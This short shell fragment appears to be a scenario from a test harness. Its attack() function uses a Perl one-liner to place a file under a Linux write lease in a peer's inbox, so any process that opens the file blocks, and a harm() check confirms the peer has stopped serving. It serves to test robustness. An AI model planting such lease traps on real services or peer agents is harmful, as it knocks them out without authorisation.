# holds a lease on what it hands in, which stops whoever opens it for as long as the kernel lets it
wall='O_NONBLOCK'
ways=bare
blind=block
attack()
{
  perl -MFcntl -e 'open(F, ">", "leased") or die; print F "x\n"; close(F); open(F, "<", "leased") or die;
    fcntl(F, 1024, F_WRLCK) or die "$!"; $SIG{IO} = "IGNORE";
    rename("leased", "$ARGV[0]/leased.task") or die "$!"; close(STDOUT); close(STDERR); fork and exit; sleep 20' \
    "$mate/inbox" && later
}
harm() { ! still_serves mate 4; }
